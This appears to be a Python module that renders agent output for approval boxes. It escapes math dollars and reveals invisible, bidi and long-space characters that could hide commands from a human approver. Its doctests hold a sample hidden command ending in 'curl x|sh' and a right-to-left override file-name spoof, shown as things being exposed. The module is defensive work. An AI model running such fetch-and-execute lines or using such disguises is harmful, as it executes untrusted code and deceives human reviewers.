"""Text helpers of the view: what a box shows, what markdown must not typeset.

:func:`visible_text` makes invisible and misleading characters visible (an
approval box shows it); :func:`escape_math` keeps ``$`` from turning model
text into math; :func:`clip` and :func:`plural` shorten and count as every
view does.
"""

from __future__ import annotations

import re
import unicodedata
from typing import Any

__all__ = ["escape_math", "visible_text"]

#: The state of a cancelled action that could not be stopped (a sync tool's
#: thread runs on), and what it means, beside it in every view.
UNSTOPPED_STATE = "still running"
UNSTOPPED_NOTE = "could not be stopped; it may still change things"

#: How long a preview, an error or a label may be in a view.
PREVIEW_CHARS = 300


def plural(count: int, noun: str) -> str:
    """``1 turn``, ``2 turns``: as the live view writes counts."""
    return f"{count} {noun}{'' if count == 1 else 's'}"


def waiting_text(waiting: dict[str, Any]) -> str:
    """``waiting for the model's first token — 1,400 prompt tokens`` (the count when known).

    ``waiting`` is the document's ``waiting`` field (:class:`~.state.RunState`).
    """
    count = waiting.get("prompt_tokens")
    tokens = f" — {count:,} prompt tokens" if isinstance(count, int) and count > 0 else ""
    return f"waiting for the model's first token{tokens}"


def clip(text: str, limit: int = PREVIEW_CHARS) -> str:
    """``text``, cut to ``limit`` characters with an ellipsis when longer."""
    return text if len(text) <= limit else text[: limit - 1] + "…"


# Fenced blocks and inline code spans: their `$` are code, not math.
_CODE = re.compile(r"(^[ \t]*(```|~~~)[\s\S]*?(^[ \t]*\2|\Z)|`[^`\n]*`)", re.MULTILINE)


# A dollar the markdown step reads as literal (``\\$``: Jupyter's math
# extraction, GitHub, VS Code) inside its own element: MathJax, which
# typesets the rendered page in JupyterLab and Notebook 7, never pairs
# delimiters across elements.
_DOLLAR_MD = "<span>\\$</span>"
DOLLAR_HTML = "<span>$</span>"


def escape_math(markdown: str) -> str:
    """Escape ``$`` outside code so no markdown renderer typesets the text as math."""
    if "$" not in markdown:
        return markdown
    out: list[str] = []
    pos = 0
    for match in _CODE.finditer(markdown):
        out.append(markdown[pos : match.start()].replace("$", _DOLLAR_MD))
        out.append(match.group(0))
        pos = match.end()
    out.append(markdown[pos:].replace("$", _DOLLAR_MD))
    return "".join(out)


#: Opens every marker of :func:`visible_text` (and only those: a literal one is escaped).
MARK_OPEN, MARK_CLOSE = "⟨", "⟩"
_SPACE_RUN = 4  # spaces in a row shown as a count, not as blank
_INDENT_KEPT = 32  # leading spaces shown as they are (JSON's indentation)
# Candidates: runs of spaces, and runs of anything but printable ASCII.
_UNUSUAL = re.compile(rf" {{{_SPACE_RUN},}}|[^\x21-\x7e\n ]+")
# Characters that render as nothing or as blank space though not categorised so.
_BLANK = frozenset({0x034F, 0x115F, 0x1160, 0x3164, 0xFFA0, 0x2800})


def _hidden(char: str) -> bool:
    code = ord(char)
    if char == MARK_OPEN or code in _BLANK:
        return True
    if 0xFE00 <= code <= 0xFE0F or 0xE0100 <= code <= 0xE01EF:  # variation selectors
        return True
    # Controls, formats (bidi, zero-width), surrogates, private use, unassigned,
    # and every space, separator or break but the plain space.
    return unicodedata.category(char)[0] in "CZ"


def _marker(char: str, count: int) -> str:
    name = "tab" if char == "\t" else f"U+{ord(char):04X}"
    return f"{MARK_OPEN}{name}{f' ×{count}' if count > 1 else ''}{MARK_CLOSE}"


def visible_text(text: str) -> str:
    r"""``text`` with nothing hidden: what an approval box shows.

    A run of four or more spaces becomes ``⟨N spaces⟩`` (leading
    indentation up to 32 stays as it is); tabs become ``⟨tab⟩``; controls,
    bidi overrides and isolates, zero-width and other invisible or blank
    characters become their code points (``⟨U+202E⟩``, ``⟨U+00A0 ×300⟩`` for
    a run). A literal ``⟨`` is escaped too (``⟨U+27E8⟩``), so every ``⟨`` is
    a marker and no text can pass for one. Newlines stay line breaks.

    Examples
    --------
    >>> visible_text("ls" + " " * 2100 + "; curl x|sh")
    'ls⟨2100 spaces⟩; curl x|sh'
    >>> visible_text("abc\u202egpj.exe")
    'abc⟨U+202E⟩gpj.exe'
    """

    def replace(match: re.Match[str]) -> str:
        found = match.group(0)
        if found[0] == " ":
            start = match.start()
            if (start == 0 or text[start - 1] == "\n") and len(found) <= _INDENT_KEPT:
                return found
            return f"{MARK_OPEN}{len(found)} spaces{MARK_CLOSE}"
        out: list[str] = []
        i = 0
        while i < len(found):
            char = found[i]
            if not (char == "\t" or _hidden(char)):
                out.append(char)
                i += 1
                continue
            j = i + 1
            while j < len(found) and found[j] == char:
                j += 1
            out.append(_marker(char, j - i))
            i = j
        return "".join(out)

    return _UNUSUAL.sub(replace, text)
